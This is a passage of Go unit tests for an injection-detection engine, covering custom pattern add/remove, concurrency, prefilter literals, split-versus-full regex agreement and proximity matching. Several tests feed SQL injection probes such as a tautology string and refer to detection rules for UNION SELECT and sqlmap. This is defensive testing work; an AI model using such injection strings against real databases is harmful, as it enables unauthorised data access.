	// plain-token fast path is for the built-in sets only).
	if !d.Detect(ctx, "acme-internal-42", "query:q").IsThreat {
		t.Fatal("custom pattern missed a plain token")
	}
	if got := d.Patterns(); len(got) != 1 || got[0].ID != "internal-code" || got[0].Weight != 0.9 {
		t.Fatalf("Patterns() = %+v", got)
	}
	var found bool
	for _, s := range d.Stats() {
		if s.ID == "internal-code" {
			found = true
			if s.Executions == 0 || s.Matches == 0 || !s.Custom {
				t.Fatalf("stats %+v", s)
			}
		}
	}
	if !found {
		t.Fatal("no stats for custom pattern")
	}
	if st := d.Status(); st.CustomPatterns != 1 || !st.Healthy || st.BuiltinPatterns < 100 {
		t.Fatalf("status %+v", st)
	}
	if !d.RemovePattern("internal-code") {
		t.Fatal("RemovePattern = false")
	}
	if d.RemovePattern("internal-code") || d.RemovePattern("sqli-union-select") {
		t.Fatal("removed twice or removed a built-in")
	}
	if d.Detect(ctx, "order for ACME-INTERNAL-7", "query:q").IsThreat {
		t.Fatal("threat after removal")
	}
}

func TestConcurrentUseAndUpdates(t *testing.T) {
	d := newTestDetector(t)
	ctx := context.Background()
	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				if !d.Detect(ctx, "1' or '1'='1", "query:q").IsThreat {
					t.Error("missed under concurrency")
					return
				}
			}
		}()
	}
	for i := 0; i < 4; i++ {
		id := "c" + string(rune('a'+i))
		if err := d.AddPattern(Pattern{ID: id, Category: "custom", Regex: "zz" + id}); err != nil {
			t.Fatal(err)
		}
		d.RemovePattern(id)
	}
	wg.Wait()
}

func TestBuiltinPatternsCompileWithLiterals(t *testing.T) {
	ps, err := BuiltinPatterns()
	if err != nil {
		t.Fatal(err)
	}
	cats := map[string]int{}
	for _, p := range ps {
		c, err := compilePattern(p)
		if err != nil {
			t.Fatal(err)
		}
		if c.always {
			t.Errorf("%s: no prefilter literal: it would run on every value", p.ID)
		}
		if p.Description == "" && p.Weight >= 0.7 {
			// Strong patterns must say what they match.
			t.Logf("%s: no description", p.ID)
		}
		cats[p.Category]++
	}
	for _, c := range Categories() {
		if cats[c] == 0 {
			t.Errorf("category %s has no pattern", c)
		}
	}
}

// TestSplitMatchesFullRegex checks the literal-anchored matching against the plain
// regex on every attack and benign case: both must agree on whether there is a match.
func TestSplitMatchesFullRegex(t *testing.T) {
	ps, err := BuiltinPatterns()
	if err != nil {
		t.Fatal(err)
	}
	var inputs []string
	for _, tc := range attackCases {
		inputs = append(inputs, Normalize(tc.in))
	}
	for _, tc := range hardBenign {
		inputs = append(inputs, Normalize(tc.in))
	}
	inputs = append(inputs, "xconcat(1)", "concat (a)", "an sqlmap run", "left(1,2)", "Left (1)")
	for _, p := range ps {
		c, err := compilePattern(p)
		if err != nil || !c.split {
			continue
		}
		rs := &ruleset{pats: []*compiled{c}, catIdx: map[string]int{c.Category: 0}, cats: []string{c.Category}}
		for _, l := range c.Literals {
			rs.litPats = append(rs.litPats, []int32{0})
			rs.litLen = append(rs.litLen, int32(len(l)))
		}
		rs.ac = newACMatcher(c.Literals)
		for _, in := range inputs {
			s := &scratch{}
			s.reset(rs)
			rs.ac.scan(in, func(lit int32, end int) {
				s.starts = append(s.starts, litStart{0, int32(end) - rs.litLen[lit], rs.litLen[lit]})
			})
			loc, _ := s.anchoredMatch(c, 0, in)
			full := c.re.FindStringIndex(in)
			if (loc != nil) != (full != nil) {
				t.Errorf("%s on %q: split=%v full=%v", p.ID, in, loc, full)
			}
		}
	}
}

// TestNeutralProseRunsNoRegex guards the fast path: ordinary prose must be decided by
// the prefilter alone. A pattern whose literals occur in everyday English shows up here.
func TestNeutralProseRunsNoRegex(t *testing.T) {
	d := newTestDetector(t)
	in := strings.Repeat(neutralProse, 4)
	if d.Detect(context.Background(), in, "body:text").IsThreat {
		t.Fatal("neutral prose flagged")
	}
	for _, s := range d.Stats() {
		if s.Executions > 0 {
			t.Errorf("%s ran on neutral prose (%d executions)", s.ID, s.Executions)
		}
	}
}

func TestNearPrefilter(t *testing.T) {
	d := newTestDetector(t)
	ctx := context.Background()
	p := Pattern{ID: "twice", Category: "custom", Regex: `\bfoo\s+foo\b`, Near: [2][]string{{"foo"}, {"foo"}}, NearGap: 4}
	if err := d.AddPattern(p); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		in   string
		want bool
	}{
		{"foo foo", true},       // the same literal on both sides pairs with the earlier hit
		{"foo", false},          // one occurrence cannot pair with itself
		{"foofoo foo", false},   // "foofoo" is not a whole word
		{"foo   x  foo", false}, // too far apart for the gap (after blank folding: 7 bytes)
	}
	for _, tc := range tests {
		if got := d.Detect(ctx, tc.in, "query:q").IsThreat; got != tc.want {
			t.Errorf("%q: IsThreat = %v, want %v", tc.in, got, tc.want)
		}
	}
	if err := d.AddPattern(Pattern{ID: "half", Category: "custom", Regex: "x", Near: [2][]string{{"a"}, nil}}); !errors.Is(err, ErrInvalidPattern) {
		t.Errorf("one-sided near: err = %v", err)
	}
}
